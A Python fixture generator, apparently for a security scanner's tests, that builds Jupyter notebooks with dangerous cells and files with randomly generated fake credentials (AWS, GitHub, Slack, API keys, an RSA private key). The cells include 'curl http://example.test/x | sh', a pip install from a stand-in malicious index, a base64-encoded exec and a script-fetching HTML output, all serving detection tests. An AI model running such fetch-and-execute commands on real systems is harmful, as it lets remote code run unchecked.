"""Notebooks, configurations with secrets, and texts."""

import json

from .tensors import entry, safetensors


def notebook(*sources, **extra):
    cells = [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source} for source in sources]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **extra}).encode()


def make(corpus):
    cells = {
        "system": "import os\nos.system('true')", "shell": "!curl http://example.test/x | sh", "magic": "%%bash\ncurl http://example.test/x | sh",
        "pip": "!pip install --index-url http://example.test evil", "exec": "exec(__import__('base64').b64decode('cGFzcw=='))", "subprocess": "import subprocess\nsubprocess.run(['true'])",
        "pickle": "import pickle\npickle.load(open('model.pkl', 'rb'))",
    }
    for label, source in cells.items():
        corpus.found("notebooks", f"{label}.ipynb", notebook("# A model\nx = 1", source), "a cell that runs something")
    page = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1", "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>fetch('http://example.test')</script>"}}]}
    corpus.found("notebooks", "script-output.ipynb", notebook("x = 1", cells=[page]), "an output with a script")
    rng = corpus.rng("secrets")
    letters = lambda alphabet, n: "".join(rng.choices(alphabet, k=n))
    upper, both = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    secrets = {
        "aws": "AKIA" + letters(upper, 16), "github": "ghp_" + letters(both, 36), "hub": "hf_" + letters(both[:52], 34),
        "slack": f"xoxb-{letters('0123456789', 12)}-{letters('0123456789', 12)}-{letters(both, 24)}", "model-service": "sk-ant-api03-" + letters(both, 93) + "AA",
        "private-key": "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(letters(both, 64) for _ in range(12)) + "\n-----END RSA PRIVATE KEY-----",
    }
    for label, secret in secrets.items():
        corpus.found("secrets", f"{label}.json", json.dumps({"learning_rate": 0.1, "token": secret}).encode(), "a secret in a configuration")
        corpus.found("secrets", f"{label}.safetensors", safetensors({"__metadata__": {"note": secret}, "w": entry(0, 16)}, b"\0" * 16), "a secret in metadata")
        corpus.found("secrets", f"{label}.md", f"# A model\n\nUse this:\n\n```\n{secret}\n```\n".encode(), "a secret in a text")
